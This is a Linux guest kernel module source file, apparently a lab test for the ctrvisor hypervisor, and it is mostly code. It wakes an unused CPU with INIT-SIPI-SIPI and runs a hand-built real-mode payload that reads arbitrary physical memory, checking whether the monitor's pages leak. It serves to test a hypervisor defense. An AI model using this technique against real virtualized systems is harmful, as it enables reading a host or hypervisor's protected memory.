// SPDX-License-Identifier: GPL-2.0
/*
 * wakeap: the attack of issue 8, as a lab guest kernel module. A hostile guest kernel sends
 * INIT-SIPI-SIPI to a CPU it does not use, so that CPU runs the attacker's code; if the
 * hypervisor never virtualized that CPU, the code has full physical access and can read the
 * monitor's memory. With every CPU virtualized and INIT/SIPI emulated (DESIGN §3), the woken
 * code runs as a guest and the monitor's pages read as the EPT sink page (zeros).
 *
 *   insmod wakeap.ko apic_id=N phys=0xADDR [len=N] [page=0xPAGE]
 *
 * The woken CPU runs a payload from one 4 KiB page below 1 MiB (the SIPI vector is its page
 * number): real mode, a flat 32-bit GDT, protected mode without paging, copy `len` (<= 2048)
 * bytes from physical `phys` (< 4 GiB) into the page, write a "done" marker, then halt with
 * interrupts off (an IDT whose every vector halts too, so an NMI cannot make it run
 * anything else). The module waits up to 2 s for the marker and logs one line:
 *
 *   GUEST-WAKEAP apic=N phys=0x... len=N done=0|1 nonzero=K magic_hits=M same_as_kernel=0|1
 *                ap_apic=N ap_hv=0|1 first16=<hex>
 *
 * nonzero: nonzero bytes the woken CPU read; magic_hits: occurrences of the monitor's image
 * magic "CTRVISOR-CORE-MAGIC:" in them; same_as_kernel: whether they equal what this kernel
 * reads at `phys` through memremap() (1 under the monitor for its pages: both see the sink);
 * ap_apic: the initial APIC ID the woken CPU reads from CPUID.1:EBX[31:24]; ap_hv: whether
 * it sees the monitor's CPUID leaf 0x40000000 signature "CtrVisorVMM!" (it runs as a guest).
 * The line is logged at KERN_NOTICE: the lab's /init repeats it on the console
 * (tools/lab/guest/init, lab.wakeap=).
 *
 * Loading succeeds once the line is logged, whatever the outcome, and the module holds
 * nothing afterwards: `rmmod wakeap` at any time, then load it again for another attempt
 * (INIT resets the target). A failing load would run the attack twice: busybox's insmod
 * retries with init_module() whenever finit_module() fails. -EINVAL, -EBUSY, -ENOMEM,
 * -ENODEV come before anything is sent. The target CPU stays halted in the payload page.
 *
 * Which page (wakeap_choose_page): Linux 6.1 keeps the whole first 1 MiB of RAM out of the
 * page allocator (arch/x86/realmode/init.c, reserve_real_mode(): "Unconditionally reserve
 * the entire first 1M"), so only what the kernel itself put there uses it: the real-mode
 * trampoline (allocated top-down below 1 MiB, found here by its real_mode_header, since the
 * symbol is not exported) and the BIOS areas. The page is the lowest one that is
 *   - at or above 64 KiB: BIOSes are known to scribble below that (CONFIG_X86_RESERVE_LOW,
 *     and the low-memory corruption check scans it);
 *   - below the BIOS data (EBDA) start as arch/x86/kernel/ebda.c computes it;
 *   - "System RAM" (page_is_ram(): firmware-reserved, ACPI and EFI runtime ranges are not);
 *   - outside the 64 KiB after a real_mode_header signature (the trampoline blob).
 * `page=` overrides the choice (still checked against all of the above).
 *
 * Built against Debian's headers of the lab kernel by tools/lab/build-module.sh.
 */
#define pr_fmt(fmt) "wakeap: " fmt

#include <linux/delay.h>
#include <linux/errno.h>
#include <linux/io.h>
#include <linux/jiffies.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/moduleparam.h>
#include <linux/sizes.h>
#include <linux/smp.h>
#include <linux/stringify.h>
#include <asm/apic.h>
#include <asm/bios_ebda.h>
#include <asm/smp.h>

/* ---------------------------------------------------------------- the payload page layout */

#define WAKEAP_SEL_CODE 0x08 /* flat 32-bit code, GDT entry 1 */
#define WAKEAP_SEL_DATA 0x10 /* flat 32-bit data, GDT entry 2 */

/* Offsets in the page. Code, GDT and pseudo-descriptors sit below WAKEAP_PARAMS (the
 * payload's `.org` fails the build if they do not fit). */
#define WAKEAP_PARAMS     0x200 /* struct wakeap_params */
#define WAKEAP_STACK_TOP  0x400 /* the stack (an NMI or exception pushes here) grows down */
#define WAKEAP_IDT        0x400 /* 32 interrupt gates, 8 bytes each */
#define WAKEAP_IDT_GATES  32
#define WAKEAP_RESULT     0x800 /* what the woken CPU copied from `phys` */
#define WAKEAP_RESULT_MAX 2048u

#define WAKEAP_DONE_MAGIC 0x454e4f44u /* "DONE" */

/* At WAKEAP_PARAMS; the payload addresses the fields by these offsets. */
struct wakeap_params {
	u32 phys;      /* +0  in: physical source address */
	u32 len;       /* +4  in: bytes to copy, <= WAKEAP_RESULT_MAX */
	u32 done;      /* +8  out: WAKEAP_DONE_MAGIC once the copy is complete */
	u32 ap_apic;   /* +12 out: CPUID.1:EBX[31:24] */
	u32 hv_sig[3]; /* +16 out: CPUID.40000000H EBX, ECX, EDX */
} __packed;

#define WAKEAP_P_PHYS    0
#define WAKEAP_P_LEN     4
#define WAKEAP_P_DONE    8
#define WAKEAP_P_AP_APIC 12
#define WAKEAP_P_HV_SIG  16

static_assert(offsetof(struct wakeap_params, len) == WAKEAP_P_LEN);
static_assert(offsetof(struct wakeap_params, done) == WAKEAP_P_DONE);
static_assert(offsetof(struct wakeap_params, ap_apic) == WAKEAP_P_AP_APIC);
static_assert(offsetof(struct wakeap_params, hv_sig) == WAKEAP_P_HV_SIG);
static_assert(WAKEAP_PARAMS + sizeof(struct wakeap_params) <= WAKEAP_STACK_TOP - 64);
static_assert(WAKEAP_IDT + WAKEAP_IDT_GATES * 8 <= WAKEAP_RESULT);
static_assert(WAKEAP_RESULT + WAKEAP_RESULT_MAX <= PAGE_SIZE);

/*
 * The payload, position-independent: it finds its page from CS (SIPI: CS.base = vector <<
 * 12, IP = 0; SDM Vol. 3A §9.4.4.1 / §10.6.1) and patches its own GDTR base and far pointer.
 * It is data here (in .rodata, copied into the page), never executed by this kernel.
 *
 * Real mode: CR0.CD/NW are set after INIT (SDM Vol. 3A §9.1.1, Table 9-1); clear them with
 * PE so the copy and the marker go through the caches this kernel reads through. CR0.NE and
 * ET are kept as they are (the monitor shadows NE). No paging: linear = physical (§9.9.1).
 */
#define WAKEAP_OFF(sym) #sym " - wakeap_payload"

/* One instruction per line, as an assembler listing reads: */
/* clang-format off */
asm(".pushsection .rodata.wakeap_payload, \"a\"\n"
    ".balign 16\n"
    ".globl wakeap_payload\n"
    "wakeap_payload:\n"
    ".code16\n"
    "	cli\n"
    "	cld\n"
    "	movw %cs, %ax\n"
    "	movw %ax, %ds\n"
    "	movzwl %ax, %ebp\n"
    "	shll $4, %ebp\n" /* %ebp = the page's physical address from here on */
    "	leal " WAKEAP_OFF(wakeap_gdt) "(%ebp), %eax\n"
    "	movl %eax, " WAKEAP_OFF(wakeap_gdtr) " + 2\n"
    "	leal " WAKEAP_OFF(wakeap_pm32) "(%ebp), %eax\n"
    "	movl %eax, " WAKEAP_OFF(wakeap_farptr) "\n"
    "	lgdtl " WAKEAP_OFF(wakeap_gdtr) "\n"
    "	movl %cr0, %eax\n"
    "	andl $0x9fffffff, %eax\n" /* clear CD (bit 30), NW (bit 29) */
    "	orl $1, %eax\n"	  /* PE */
    "	movl %eax, %cr0\n"
    "	ljmpl *" WAKEAP_OFF(wakeap_farptr) "\n"
    ".code32\n"
    "wakeap_pm32:\n"
    "	movl $" __stringify(WAKEAP_SEL_DATA) ", %eax\n"
    "	movw %ax, %ds\n"
    "	movw %ax, %es\n"
    "	movw %ax, %ss\n"
    "	movw %ax, %fs\n"
    "	movw %ax, %gs\n"
    "	leal " __stringify(WAKEAP_STACK_TOP) "(%ebp), %esp\n"
    /* An IDT whose 32 exception vectors (NMI included) all enter wakeap_park: a stray NMI
     * halts again instead of faulting through the real-mode IVT into a triple fault. A
     * vector above the limit raises #GP, which is vector 13: parked too. */
    "	leal " __stringify(WAKEAP_IDT) "(%ebp), %edi\n"
    "	leal " WAKEAP_OFF(wakeap_park) "(%ebp), %eax\n"
    "	movl %eax, %edx\n"
    "	shrl $16, %edx\n"
    "	movl $" __stringify(WAKEAP_IDT_GATES) ", %ecx\n"
    "1:	movw %ax, 0(%edi)\n"
    "	movw $" __stringify(WAKEAP_SEL_CODE) ", 2(%edi)\n"
    "	movw $0x8e00, 4(%edi)\n" /* present, DPL 0, 32-bit interrupt gate */
    "	movw %dx, 6(%edi)\n"
    "	addl $8, %edi\n"
    "	loop 1b\n"
    "	leal " __stringify(WAKEAP_IDT) "(%ebp), %eax\n"
    "	movl %eax, " WAKEAP_OFF(wakeap_idtr) " + 2(%ebp)\n"
    "	lidtl " WAKEAP_OFF(wakeap_idtr) "(%ebp)\n"
    /* Who runs this: the initial APIC ID, and the hypervisor leaf. */
    "	movl $1, %eax\n"
    "	cpuid\n"
    "	shrl $24, %ebx\n"
    "	movl %ebx, " __stringify(WAKEAP_PARAMS + WAKEAP_P_AP_APIC) "(%ebp)\n"
    "	movl $0x40000000, %eax\n"
    "	xorl %ecx, %ecx\n"
    "	cpuid\n"
    "	movl %ebx, " __stringify(WAKEAP_PARAMS + WAKEAP_P_HV_SIG) "(%ebp)\n"
    "	movl %ecx, " __stringify(WAKEAP_PARAMS + WAKEAP_P_HV_SIG + 4) "(%ebp)\n"
    "	movl %edx, " __stringify(WAKEAP_PARAMS + WAKEAP_P_HV_SIG + 8) "(%ebp)\n"
    /* The attack itself: copy len bytes from phys. */
    "	movl " __stringify(WAKEAP_PARAMS + WAKEAP_P_PHYS) "(%ebp), %esi\n"
    "	movl " __stringify(WAKEAP_PARAMS + WAKEAP_P_LEN) "(%ebp), %ecx\n"
    "	cmpl $" __stringify(WAKEAP_RESULT_MAX) ", %ecx\n"
    "	jbe 2f\n"
    "	movl $" __stringify(WAKEAP_RESULT_MAX) ", %ecx\n"
    "2:	leal " __stringify(WAKEAP_RESULT) "(%ebp), %edi\n"
    "	rep movsb\n"
    "	movl $" __stringify(WAKEAP_DONE_MAGIC) ", " __stringify(WAKEAP_PARAMS + WAKEAP_P_DONE) "(%ebp)\n"
    "wakeap_park:\n"
    "	cli\n"
    "	hlt\n"
    "	jmp wakeap_park\n"
    ".balign 8\n"
    "wakeap_gdt:\n"
    "	.quad 0\n"
    "	.quad 0x00cf9b000000ffff\n" /* 0x08: base 0, limit 4 GiB, code, execute/read */
    "	.quad 0x00cf93000000ffff\n" /* 0x10: base 0, limit 4 GiB, data, read/write */
    "wakeap_gdt_end:\n"
    "wakeap_gdtr:\n"
    "	.word wakeap_gdt_end - wakeap_gdt - 1\n"
    "	.long 0\n" /* patched: the GDT's linear address */
    "wakeap_idtr:\n"
    "	.word " __stringify(WAKEAP_IDT_GATES) " * 8 - 1\n"
    "	.long 0\n" /* patched: the IDT's linear address */
    "wakeap_farptr:\n"
    "	.long 0\n" /* patched: wakeap_pm32's linear address */
    "	.word " __stringify(WAKEAP_SEL_CODE) "\n"
    ".org wakeap_payload + " __stringify(WAKEAP_PARAMS) "\n" /* fails if the code outgrew it */
    ".globl wakeap_payload_end\n"
    "wakeap_payload_end:\n"
    ".code64\n"
    ".popsection\n");
/* clang-format on */

extern const u8 wakeap_payload[];
extern const u8 wakeap_payload_end[];

/* ------------------------------------------------------------------------- parameters */

static int apic_id = -1;
module_param(apic_id, int, 0);
MODULE_PARM_DESC(apic_id, "APIC ID of the CPU to wake (one Linux does not run)");

static ulong phys = ULONG_MAX;
module_param(phys, ulong, 0);
MODULE_PARM_DESC(phys, "physical address the woken CPU reads (below 4 GiB)");

static uint len = 256;
module_param(len, uint, 0);
MODULE_PARM_DESC(len, "bytes to read, 1..2048 (default 256)");

static ulong page;
module_param(page, ulong, 0);
MODULE_PARM_DESC(page, "payload page below 1 MiB (default: chosen, see the source)");

/* -------------------------------------------------------------------- choosing the page */

#define WAKEAP_LOW_MIN         SZ_64K /* see the header comment */
#define WAKEAP_TRAMPOLINE_SPAN SZ_64K /* generous: the blob is about 6 pages */
#define BIOS_RAM_SIZE_KB_PTR   0x413  /* as arch/x86/kernel/ebda.c */
#define BIOS_START_MIN         0x20000u
#define BIOS_START_MAX         0x9f000u

/* Where the BIOS areas start, computed as reserve_bios_regions() does
 * (arch/x86/kernel/ebda.c); the first 1 MiB is always in the direct map. */
static unsigned long wakeap_bios_start(void)
{
	unsigned long ebda_start = get_bios_ebda();
	unsigned long bios_start = *(u16 *)phys_to_virt(BIOS_RAM_SIZE_KB_PTR);

	bios_start <<= 10;
	if (bios_start < BIOS_START_MIN || bios_start > BIOS_START_MAX)
		bios_start = BIOS_START_MAX;
	if (ebda_start >= BIOS_START_MIN && ebda_start < bios_start)
		bios_start = ebda_start;
	return round_down(bios_start, PAGE_SIZE);
}

/*
 * Whether the page at pa holds the real_mode_header (arch/x86/realmode/rm/header.S) as
 * setup_real_mode() relocated it: text_start is a page boundary just above the header,
 * ro_end after it, and trampoline_start and trampoline_header inside the blob.
 */
static bool wakeap_is_realmode_header(unsigned long pa)
{
	const u32 *h = phys_to_virt(pa);
	u32 text_start = h[0], ro_end = h[1], tramp_start = h[2], tramp_header = h[3];
	unsigned long end = pa + WAKEAP_TRAMPOLINE_SPAN;

	if (text_start <= pa || text_start > pa + 4 * PAGE_SIZE || !PAGE_ALIGNED(text_start))
		return false;
	if (ro_end <= text_start || ro_end >= end)
		return false;
	if (tramp_start < text_start || tramp_start >= ro_end)
		return false;
	return tramp_header > pa && tramp_header < end;
}

/* The real-mode trampoline's base below `limit`, or 0 if no page looks like it. */
static unsigned long wakeap_find_trampoline(unsigned long limit)
{
	unsigned long pa;

	for (pa = PAGE_SIZE; pa < limit; pa += PAGE_SIZE)
		if (page_is_ram(PHYS_PFN(pa)) && wakeap_is_realmode_header(pa))
			return pa;
	return 0;
}

static bool wakeap_page_usable(unsigned long pa, unsigned long bios_start, unsigned long trampoline)
{
	if (!PAGE_ALIGNED(pa) || pa < WAKEAP_LOW_MIN || pa >= bios_start)
		return false;
	if (trampoline && pa >= trampoline && pa < trampoline + WAKEAP_TRAMPOLINE_SPAN)
		return false;
	return page_is_ram(PHYS_PFN(pa));
}

/* The payload page (see the header comment), or 0 if none fits. */
static unsigned long wakeap_choose_page(void)
{
	unsigned long bios_start = wakeap_bios_start();
	unsigned long trampoline = wakeap_find_trampoline(SZ_1M);
	unsigned long pa;

	pr_info("BIOS areas from 0x%lx, real-mode trampoline at 0x%lx\n", bios_start, trampoline);
	if (page)
		return wakeap_page_usable(page, bios_start, trampoline) ? page : 0;
	for (pa = WAKEAP_LOW_MIN; pa < bios_start; pa += PAGE_SIZE)
		if (wakeap_page_usable(pa, bios_start, trampoline))
			return pa;
	return 0;
}

/* ------------------------------------------------------------------------- the wakeup */

/* One IPI through the ICR: xAPIC or x2APIC alike (apic->icr_write), interrupts off so an
 * IPI sent from an interrupt handler cannot come between the two xAPIC ICR writes. */
static void wakeap_send(u32 icr_low, u32 dest)
{
	unsigned long flags;

	local_irq_save(flags);
	apic_icr_write(icr_low, dest);
	safe_apic_wait_icr_idle();
	local_irq_restore(flags);
}

/*
 * INIT-SIPI-SIPI as arch/x86/kernel/smpboot.c (wakeup_secondary_cpu_via_init) sends it:
 * INIT asserted, 10 ms (the MP specification's delay; DESIGN §8: the monitor's INIT handler
 * gets its time), INIT de-asserted, then two STARTUP IPIs 200 µs apart (SDM Vol. 3A
 * §9.4.4.1).
 */
static void wakeap_init_sipi_sipi(u32 dest, unsigned long pa)
{
	int i;

	wakeap_send(APIC_INT_LEVELTRIG | APIC_INT_ASSERT | APIC_DM_INIT, dest);
	mdelay(10);
	wakeap_send(APIC_INT_LEVELTRIG | APIC_DM_INIT, dest);
	for (i = 0; i < 2; i++) {
		wakeap_send(APIC_DM_STARTUP | (u32)(pa >> PAGE_SHIFT), dest);
		udelay(200);
	}
}

static bool wakeap_apic_id_online(u32 id)
{
	unsigned int cpu;

	for (cpu = 0; cpu < nr_cpu_ids; cpu++)
		if (cpu_online(cpu) && per_cpu(x86_cpu_to_apicid, cpu) == id)
			return true;
	return false;
}

static unsigned int wakeap_count_magic(const u8 *buf, unsigned int n)
{
	static const char magic[] = "CTRVISOR-CORE-MAGIC:";
	const unsigned int magic_len = sizeof(magic) - 1;
	unsigned int i, hits = 0;

	for (i = 0; i + magic_len <= n; i++)
		if (memcmp(buf + i, magic, magic_len) == 0)
			hits++;
	return hits;
}

static int __init wakeap_init(void)
{
	const size_t payload_len = wakeap_payload_end - wakeap_payload;
	struct wakeap_params *params;
	unsigned long pa, deadline;
	unsigned int nonzero = 0, i;
	bool done, same = false, ap_hv;
	void *kernel_view;
	u8 *low;

	if (apic_id < 0 || (!x2apic_mode && apic_id > 0xfe)) {
		pr_err("apic_id=%d: need a target APIC ID (0..254 in xAPIC mode)\n", apic_id);
		return -EINVAL;
	}
	if (phys >= SZ_4G || len == 0 || len > WAKEAP_RESULT_MAX || phys + len > SZ_4G) {
		pr_err("phys=0x%lx len=%u: need 1..%u bytes below 4 GiB\n", phys, len,
		       WAKEAP_RESULT_MAX);
		return -EINVAL;
	}
	if (wakeap_apic_id_online(apic_id)) {
		pr_err("APIC ID %d belongs to an online CPU: offline it or boot with nr_cpus=\n",
		       apic_id);
		return -EBUSY;
	}
	pa = wakeap_choose_page();
	if (!pa) {
		pr_err("no usable page below 1 MiB%s\n", page ? " (page= refused)" : "");
		return -ENODEV;
	}
	low = memremap(pa, PAGE_SIZE, MEMREMAP_WB);
	if (!low)
		return -ENOMEM;

	memset(low, 0, PAGE_SIZE);
	memcpy(low, wakeap_payload, payload_len);
	params = (struct wakeap_params *)(low + WAKEAP_PARAMS);
	params->phys = phys;
	params->len = len;
	mb(); /* the page is complete before the STARTUP IPI can start the target on it */

	pr_info("waking APIC ID %d at 0x%lx (SIPI vector 0x%02lx) to read %u bytes at 0x%lx\n",
		apic_id, pa, pa >> PAGE_SHIFT, len, phys);
	wakeap_init_sipi_sipi(apic_id, pa);

	deadline = jiffies + msecs_to_jiffies(2000);
	for (;;) {
		done = READ_ONCE(params->done) == WAKEAP_DONE_MAGIC;
		if (done || time_after(jiffies, deadline))
			break;
		usleep_range(1000, 2000);
	}
	rmb(); /* the marker before the result it covers */

	for (i = 0; i < len; i++)
		nonzero += low[WAKEAP_RESULT + i] != 0;
	kernel_view = memremap(phys, len, MEMREMAP_WB);
	if (kernel_view) {
		same = memcmp(kernel_view, low + WAKEAP_RESULT, len) == 0;
		memunmap(kernel_view);
	} else {
		pr_warn("this kernel cannot memremap 0x%lx: same_as_kernel=0\n", phys);
	}
	ap_hv = memcmp(params->hv_sig, "CtrVisorVMM!", sizeof(params->hv_sig)) == 0;

	pr_notice("GUEST-WAKEAP apic=%d phys=0x%lx len=%u done=%d nonzero=%u magic_hits=%u"
		  " same_as_kernel=%d ap_apic=%u ap_hv=%d first16=%*phN\n",
		  apic_id, phys, len, done, nonzero, wakeap_count_magic(low + WAKEAP_RESULT, len),
		  same, done ? params->ap_apic : 0, done && ap_hv, (int)min(len, 16u),
		  low + WAKEAP_RESULT);
	/* The page stays as it is: the target may still be halted in it. */
	memunmap(low);
	return 0;
}

/* Nothing to undo: the payload page is not the module's, and the target stays parked. */
static void __exit wakeap_exit(void)
{
}

module_init(wakeap_init);
module_exit(wakeap_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("ctrvisor lab: wake an unused CPU with INIT-SIPI-SIPI and report what it reads");
